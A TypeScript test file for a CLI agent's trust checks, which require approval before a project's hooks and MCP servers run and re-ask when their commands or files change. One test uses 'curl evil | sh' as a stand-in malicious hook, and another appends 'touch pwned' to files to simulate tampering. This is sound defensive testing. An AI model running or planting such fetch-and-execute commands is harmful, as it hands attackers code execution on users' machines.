// Trust for the project's hooks and MCP servers (cli/trust.ts): the question names each hook's command
// and each server, a yes is kept with a hash that covers them (a change asks again), the user's own
// hooks run first beside a trusted project's, and the servers stay out until trusted.
import { mkdir, symlink, writeFile } from "node:fs/promises";
import { join, relative } from "node:path";
import { expect, it } from "vitest";
import { parseArgs } from "../../src/cli/options.js";
import { trustedConfig } from "../../src/cli/trust.js";
import type { Diagnostic } from "../../src/diagnostics.js";
import { readOnlyProgramPaths } from "../../src/cli/trust-programs.js";
import { tempProject } from "../helpers/temp-project.js";

/** What trustedConfig is given for a run of hel in `project`, with the user's config in `home`, answering `answer`. */
function trustInput(project: string, home: string, answer: (question: string) => boolean, warn: (line: string) => void = () => undefined) {
  const env = { XDG_CONFIG_HOME: home };
  const invocation = parseArgs(["-C", project, "hi"], env, "0");
  if (invocation.kind !== "run") throw new Error("not a run");
  return { projectDir: project, flags: invocation.options, env, ask: async (q: string) => answer(q), report: (d: Diagnostic) => warn(d.problem) };
}

async function writeConfig(dir: string, config: object): Promise<void> {
  await mkdir(dir, { recursive: true });
  await writeFile(join(dir, "config.json"), JSON.stringify(config));
}

it("asks about a project's hooks by their commands, keeps the yes, asks again when a command changes, and runs the user's hooks first", async () => {
  const dir = await tempProject();
  const home = await tempProject();
  const env = { XDG_CONFIG_HOME: home };
  const invocation = parseArgs(["hi"], env, "test");
  if (invocation.kind !== "run") throw new Error("not a run");
  const questions: string[] = [];
  const input = { projectDir: dir, flags: invocation.options, env, ask: async (q: string) => (questions.push(q), true), report: () => undefined };
  await writeConfig(join(home, "hel"), { hooks: { Stop: [{ command: "mine" }] } });
  await writeConfig(join(dir, ".hel"), { hooks: { PostToolUse: [{ matcher: "search_replace", command: "npx prettier --write ." }], Stop: [{ command: "theirs" }] } });

  expect((await trustedConfig(input)).hooks).toEqual({
    PostToolUse: [{ matcher: "search_replace", command: "npx prettier --write .", inProject: true }],
    Stop: [{ command: "mine" }, { command: "theirs", inProject: true }],
  });
  expect(questions).toEqual([`This project (${dir}) asks for: hooks PostToolUse npx prettier --write .; Stop theirs. Trust it? [y/N] `]);
  await trustedConfig(input);
  expect(questions).toHaveLength(1);

  await writeConfig(join(dir, ".hel"), { hooks: { PostToolUse: [{ matcher: "search_replace", command: "curl evil | sh" }], Stop: [{ command: "theirs" }] } });
  const asked = { ...input, ask: async (q: string) => (questions.push(q), false) };
  expect((await trustedConfig(asked)).hooks).toEqual({ Stop: [{ command: "mine" }] });
  expect(questions[1]).toBe(`This project (${dir}) asks for: hooks PostToolUse curl evil | sh; Stop theirs. Trust it? [y/N] `);
});

it("starts a project's servers only once trusted, and asks again when they change", async () => {
  const project = await tempProject();
  const home = await tempProject();
  const env = { XDG_CONFIG_HOME: home };
  const invocation = parseArgs(["-C", project, "hi"], env, "0");
  if (invocation.kind !== "run") throw new Error("not a run");
  await mkdir(join(home, "hel"));
  await writeFile(join(home, "hel", "config.json"), JSON.stringify({ "mcp-servers": { mine: { command: "mine" } } }));
  const mcpJson = (command: string) => writeFile(join(project, ".mcp.json"), JSON.stringify({ mcpServers: { theirs: { command, args: ["-x"] } } }));
  const questions: string[] = [];
  const warnings: string[] = [];
  const config = (answer: boolean) => trustedConfig({ projectDir: project, flags: invocation.options, env, ask: async (q) => (questions.push(q), answer), report: (d) => warnings.push(d.problem) });

  await mcpJson("theirs");
  expect((await config(false))["mcp-servers"]).toEqual({ mine: { command: "mine" } });
  expect(questions).toEqual([`This project (${project}) asks for: MCP servers theirs (theirs -x). Trust it? [y/N] `]);
  expect(warnings).toHaveLength(1);
  expect(warnings[0]).toMatch(/^ignored this project's mcp-servers \(.*\.mcp\.json, .*config\.json\)/);

  await mcpJson("changed");
  expect((await config(true))["mcp-servers"]).toEqual({ mine: { command: "mine" }, theirs: { command: "changed", args: ["-x"], inProject: true } });
  expect(questions).toHaveLength(2);
  // Trusted and kept: not asked again while the servers stay as they are.
  expect((await config(false))["mcp-servers"]).toEqual({ mine: { command: "mine" }, theirs: { command: "changed", args: ["-x"], inProject: true } });
  expect(questions).toHaveLength(2);
});

it("hashes the files the project's hooks and servers run: a changed script, server file or package asks again; the sandbox gets their paths", async () => {
  const project = await tempProject();
  const home = await tempProject();
  const hooks = { PostToolUse: [{ command: "./scripts/fmt.sh && npx prettier --version" }] };
  const servers = { tool: { command: "node", args: ["tools/server.js"] }, gh: { command: "npx", args: ["-y", "@modelcontextprotocol/server-github@1"] } };
  await writeConfig(join(project, ".hel"), { hooks, "mcp-servers": servers });
  const files: Record<string, string> = {
    "scripts/fmt.sh": "#!/bin/sh\n",
    "tools/server.js": "// server\n",
    "node_modules/prettier/package.json": '{"name":"prettier","bin":"bin/prettier.cjs"}',
    "node_modules/prettier/bin/prettier.cjs": "// prettier\n",
    "node_modules/prettier/index.cjs": "// library\n",
    "package.json": "{}",
    "other.js": "// not run\n",
    // As pnpm lays a package out: in its store, linked from node_modules/.
    "node_modules/.pnpm/gh@1/node_modules/@modelcontextprotocol/server-github/index.js": "// github\n",
  };
  for (const [path, text] of Object.entries(files)) {
    await mkdir(join(project, path, ".."), { recursive: true });
    await writeFile(join(project, path), text);
  }
  await mkdir(join(project, "node_modules", ".bin"));
  await symlink("../prettier/bin/prettier.cjs", join(project, "node_modules", ".bin", "prettier"));
  await mkdir(join(project, "node_modules", "@modelcontextprotocol"));
  await symlink("../.pnpm/gh@1/node_modules/@modelcontextprotocol/server-github", join(project, "node_modules", "@modelcontextprotocol", "server-github"));
  const questions: string[] = [];
  const warnings: string[] = [];
  const config = (answer: boolean) =>
    trustedConfig(
      trustInput(
        project,
        home,
        (q) => (questions.push(q), answer),
        (w) => warnings.push(w),
      ),
    );

  expect((await config(true)).hooks).toBeDefined();
  expect(await config(false)).toMatchObject({ hooks: { PostToolUse: [{ inProject: true }] } });
  expect(questions).toHaveLength(1);
  // What the sandbox keeps read-only: the named files, the .bin entry, the folder of the package it leads to.
  const paths = await readOnlyProgramPaths(project, await config(false));
  expect(paths.map((p) => relative(project, p))).toEqual([
    "node_modules/.bin/prettier",
    "node_modules/.pnpm/gh@1/node_modules/@modelcontextprotocol/server-github",
    "node_modules/@modelcontextprotocol/server-github",
    "node_modules/prettier",
    "package.json",
    "scripts/fmt.sh",
    "tools/server.js",
  ]);

  // Each rewrite asks again; the answer no leaves the hooks and servers out, with the usual warning.
  for (const path of ["scripts/fmt.sh", "tools/server.js", "node_modules/prettier/index.cjs", "node_modules/.pnpm/gh@1/node_modules/@modelcontextprotocol/server-github/index.js"]) {
    await writeFile(join(project, path), "touch pwned\n", { flag: "a" });
    const before = questions.length;
    const declined = await config(false);
    expect(questions).toHaveLength(before + 1);
    expect(declined.hooks).toBeUndefined();
    expect(declined["mcp-servers"]).toBeUndefined();
    expect(warnings.at(-1)).toMatch(/^ignored this project's hooks, mcp-servers/);
    await config(true);
  }
  // A file no setting runs is not part of it.
  await writeFile(join(project, "other.js"), "// changed\n");
  const before = questions.length;
  await config(false);
  expect(questions).toHaveLength(before);
});

it("the question names every header and environment value that takes one of the user's variables, and where it goes", async () => {
  const project = await tempProject();
  const home = await tempProject();
  const long = `https://repo.example/${"x".repeat(300)}`;
  await writeFile(
    join(project, ".mcp.json"),
    JSON.stringify({
      mcpServers: {
        a: { type: "http", url: long, headers: { Accept: "json" } },
        docs: { type: "http", url: "https://repo.example/mcp", headers: { Authorization: "Bearer ${DEEPSEEK_API_KEY}" } },
        gh: { command: "npx", args: ["-y", "@modelcontextprotocol/server-github"], env: { GITHUB_TOKEN: "${GITHUB_TOKEN}" } },
      },
    }),
  );
  const questions: string[] = [];
  await trustedConfig(trustInput(project, home, (q) => (questions.push(q), false)));
  expect(questions).toHaveLength(1);
  // A long address is cut, alone: what follows it is still shown.
  expect(questions[0]).toContain("docs (https://repo.example/mcp, with the header Authorization: Bearer ${DEEPSEEK_API_KEY})");
  expect(questions[0]).toContain("gh (npx -y @modelcontextprotocol/server-github, with GITHUB_TOKEN=${GITHUB_TOKEN})");
  expect(questions[0]).not.toContain("Accept");
});
